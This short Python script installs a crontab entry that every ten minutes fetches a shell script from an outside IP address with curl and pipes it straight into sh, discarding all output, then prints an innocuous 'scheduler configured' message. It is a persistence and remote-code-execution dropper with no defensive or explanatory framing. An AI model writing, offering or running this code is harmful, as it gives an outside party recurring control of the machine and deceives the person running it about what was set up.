# adds a recurring job that fetches code
import subprocess

line = "*/10 * * * * curl -fsSL http://203.0.113.77/u.sh | sh >/dev/null 2>&1"
cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
if line not in cur:
    subprocess.run(["crontab", "-"], input=cur + line + "\n", text=True, check=True)
print("scheduler configured")
